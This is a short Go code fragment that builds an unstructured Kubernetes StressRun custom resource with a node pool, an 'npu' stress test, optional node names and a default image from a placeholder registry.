// unstructuredRun is a StressRun as a dynamic client writes it.
type unstructuredRun struct {
	Name, Pool, Image string
	Nodes             []string
}

func (r *unstructuredRun) object() *unstructured.Unstructured {
	image := r.Image
	if image == "" {
		image = "registry.example.com/npu-stress:1"
	}
	spec := map[string]any{"pool": r.Pool, "tests": []any{"npu"}, "image": image}
	if len(r.Nodes) > 0 {
		var nodes []any
		for _, n := range r.Nodes {
			nodes = append(nodes, n)
		}
		spec["nodes"] = nodes
	}
	return unstructuredOf(map[string]any{"apiVersion": v1alpha1.GroupVersion.String(), "kind": "StressRun",
		"metadata": map[string]any{"name": r.Name}, "spec": spec})
}

func unstructuredOf(obj map[string]any) *unstructured.Unstructured {
	return &unstructured.Unstructured{Object: obj}
}
